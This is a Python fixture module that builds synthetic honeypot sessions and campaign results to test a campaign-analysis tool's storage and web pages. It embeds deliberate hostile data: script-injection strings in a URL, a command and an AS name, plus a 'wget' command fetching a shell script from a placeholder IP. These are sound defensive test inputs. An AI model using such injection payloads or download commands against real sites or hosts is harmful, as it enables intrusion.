"""Many campaigns at once, as interval results to store, for the campaign pages' tests and benchmark.

Each interval holds sessions and an ``AnalysisResult`` whose campaigns carry the evidence shapes
the analysis writes (shared artefact, timing, infrastructure) and attacker-controlled strings in
URLs, commands and evidence values. Verdicts and confidences are drawn, not computed: this is a
load for the storage and page code, not an analysis output. Every tenth campaign continues into
the next interval with the same signature, so identity joins the two occurrences into one campaign.
"""

from __future__ import annotations

import hashlib
import random
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from coord_core.contracts.campaigns import AnalysisResult, Campaign, Evidence, RunInfo, Verdict
from coord_core.contracts.sessions import AttackSession, Download, LoginAttempt
from coord_core.contracts.window import DataWindow

HOSTILE_URL = 'http://203.0.113.9/x.sh?a=<script>alert("url")</script>&b=1'
HOSTILE_COMMAND = "cd /tmp; </td><script>alert('cmd')</script> #"
HOSTILE_AS = "AS64500 <b onmouseover=alert(1)>Evil & Co</b>"
START = datetime(2025, 10, 24, tzinfo=UTC)


@dataclass(frozen=True)
class StoredInterval:
    window: DataWindow
    sessions: list[AttackSession]
    result: AnalysisResult


def payload_hash(index: int) -> str:
    """The SHA-256 campaign ``index``'s sessions download (one per campaign: an indicator to look up)."""
    return hashlib.sha256(f"payload-{index}".encode()).hexdigest()


def campaign_intervals(
    campaigns: int, *, intervals: int, seed: int, sessions_per_campaign: int = 3
) -> Iterator[StoredInterval]:
    """``campaigns`` cross-interval campaigns spread over ``intervals`` hourly intervals from ``START``."""
    rng = random.Random(seed)
    plans: list[list[tuple[int, int]]] = [[] for _ in range(intervals)]  # (campaign, occurrence)
    for index in range(campaigns):
        plans[index % intervals].append((index, 0))
        if index % 10 == 0 and index % intervals + 1 < intervals:
            plans[index % intervals + 1].append((index, 1))
    for number, plan in enumerate(plans):
        window = DataWindow(start=START + timedelta(hours=number), end=START + timedelta(hours=number + 1))
        sessions: list[AttackSession] = []
        found: list[Campaign] = []
        for index, occurrence in plan:
            members = [_session(rng, window, index, occurrence, n) for n in range(sessions_per_campaign)]
            sessions.extend(members)
            found.append(_campaign(rng, index, members))
        span = {"window_start": window.start, "window_end": window.end, "session_count": len(sessions)}
        run = RunInfo(
            input_fingerprint=f"synthetic-{seed}-{number}", parameters={}, code_version="synthetic", **span
        )
        result = AnalysisResult(run=run, campaigns=sorted(found, key=lambda c: (c.first_seen, c.campaign_id)))
        yield StoredInterval(window, sessions, result)


def daily_campaign(counts: Sequence[int], *, index: int, seed: int) -> Iterator[StoredInterval]:
    """One campaign over ``len(counts)`` daily intervals from ``START`` with ``counts[day]`` sessions
    (each from its own address) on each day; one signature, so identity makes it one campaign:
    a series whose spikes are known, for the trend stage's alerts."""
    draws = random.Random(seed)
    for day, count in enumerate(counts):
        window = DataWindow(start=START + timedelta(days=day), end=START + timedelta(days=day + 1))
        members = [_session(draws, window, index, day, n) for n in range(count)]
        span = {"window_start": window.start, "window_end": window.end, "session_count": len(members)}
        run = RunInfo(
            input_fingerprint=f"daily-{seed}-{index}-{day}", parameters={}, code_version="synthetic", **span
        )
        campaigns = [_campaign(draws, index, members)] if members else []
        yield StoredInterval(window, members, AnalysisResult(run=run, campaigns=campaigns))


def _session(
    rng: random.Random, window: DataWindow, index: int, occurrence: int, number: int
) -> AttackSession:
    start = window.start + timedelta(seconds=rng.uniform(0, 3000))
    octets = [rng.randint(1, 223), rng.randint(0, 255), rng.randint(0, 255), rng.randint(1, 254)]
    return AttackSession(
        session_id=f"s{index:07d}o{occurrence}n{number}",
        sensor="sensor-1",
        src_ip=".".join(map(str, octets)),
        start=start,
        end=start + timedelta(seconds=rng.uniform(1, 120)),
        logins=[LoginAttempt(username="root", password=f"pw{index}", success=True)],
        commands=[HOSTILE_COMMAND, f"wget {HOSTILE_URL}"],
        downloads=[Download(url=HOSTILE_URL, shasum=payload_hash(index))],
        event_count=6,
        has_connect=True,
        has_close=True,
    )


def _campaign(rng: random.Random, index: int, members: list[AttackSession]) -> Campaign:
    ids = sorted(s.session_id for s in members)
    cid = "cmp-" + hashlib.sha256("\n".join(ids).encode()).hexdigest()[:16]
    p_value = round(rng.uniform(0.0001, 0.2), 4)
    evidence = [
        Evidence(
            evidence_id=f"{cid}:shared_artefact",
            factor="shared_artefact",
            score=round(rng.uniform(0.6, 1.0), 4),
            statistic={
                "kind": "download_url",
                "shared_values": [HOSTILE_URL, payload_hash(index)],
                "holders": len(members),
                "window_holders": len(members),
                "p_value": p_value,
            },
            summary=f"shared download {HOSTILE_URL}",
        ),
        Evidence(
            evidence_id=f"{cid}:temporal_synchronisation",
            factor="temporal_synchronisation",
            score=round(1 - p_value, 4),
            statistic={"p_value": p_value, "permutations": 999, "null_model": "permuted first-seen times"},
            summary="first-seen times of the sources against random draws of the window's sources",
        ),
        Evidence(
            evidence_id=f"{cid}:infrastructure",
            factor="infrastructure",
            score=0.5,
            statistic={
                "sources": len(members),
                "prefixes_24": len(members),
                "prefixes_16": len(members),
                "as_organisations": 1,
                "countries": 2,
                "top_as": HOSTILE_AS,
                "top_as_share": 1.0,
                "hosting_share": 0.67,
                "as_entropy_bits": 0.0,
                "sources_with_as": len(members),
                "shared": False,
            },
            summary="sources spread over networks",
        ),
    ]
    return Campaign(
        campaign_id=cid,
        verdict=rng.choice(list(Verdict)),
        confidence=round(rng.random(), 4),
        session_ids=ids,
        source_ips=sorted({s.src_ip for s in members}),
        first_seen=min(s.start for s in members),
        last_seen=max(s.end for s in members),
        evidence=evidence,
        signature=[f"payload:{payload_hash(index)}"],
    )
